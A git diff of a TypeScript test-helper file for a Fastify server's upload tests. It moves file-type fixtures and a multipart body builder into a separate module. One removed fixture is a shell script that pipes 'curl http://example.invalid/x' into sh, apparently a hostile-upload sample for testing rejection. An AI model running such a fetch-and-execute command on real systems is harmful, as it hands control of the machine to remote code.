@@ -5,12 +5,14 @@
  */
 import { existsSync, readdirSync } from 'node:fs';
 import { join, relative } from 'node:path';
-import { randomBytes } from 'node:crypto';
 import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
 import { afterAll, beforeAll } from 'vitest';
 import type { Store } from '../../server/store/index.ts';
 import { withStores, type Dialect, type TestDb } from '../support/db.ts';
 import { addUsers, cookieJar, seedDemoFast, T0, testServer, type TestClock } from '../support/http.ts';
+import { multipart, type FilePart } from '../support/uploads.ts';
+
+export { multipart, SAMPLES, type FilePart } from '../support/uploads.ts';
 
 export const COMMUNE = '000.01.01.H41';
 export const OTHER_UNIT = '000.00.15.H41';
@@ -23,58 +25,6 @@ const EXTRA = [
   { login: 'canboxa', password: 'canboxa-pass', roles: [{ unitCode: COMMUNE, role: 'specialist' }] },
   { login: 'canbokhac', password: 'canbokhac-pass', roles: [{ unitCode: OTHER_UNIT, role: 'specialist' }] },
 ];
-
-/** Small but real-looking files: each starts with its format's signature. */
-export const SAMPLES = {
-  pdf: Buffer.concat([
-    Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog >> endobj\n'),
-    randomBytes(3000),
-    Buffer.from('\n%%EOF\n'),
-  ]),
-  jpeg: Buffer.concat([
-    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
-    Buffer.from('JFIF\0'),
-    randomBytes(20_000),
-    Buffer.from([0xff, 0xd9]),
-  ]),
-  png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(12_000)]),
-  script: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
-};
-
-export interface FilePart {
-  name: string;
-  type?: string;
-  bytes: Buffer;
-  field?: string;
-}
-
-/** A multipart/form-data body: the fields in order, then the file. */
-export function multipart(
-  fields: Record<string, string>,
-  file?: FilePart,
-  after: Record<string, string> = {},
-) {
-  const boundary = `----motcua${randomBytes(8).toString('hex')}`;
-  const chunks: Buffer[] = [];
-  const field = (name: string, value: string) =>
-    chunks.push(
-      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
-    );
-  for (const [name, value] of Object.entries(fields)) field(name, value);
-  if (file) {
-    chunks.push(
-      Buffer.from(
-        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\n` +
-          `Content-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`,
-      ),
-      file.bytes,
-      Buffer.from('\r\n'),
-    );
-  }
-  for (const [name, value] of Object.entries(after)) field(name, value);
-  chunks.push(Buffer.from(`--${boundary}--\r\n`));
-  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
-}
 
 export interface Harness {
   dialect: Dialect;
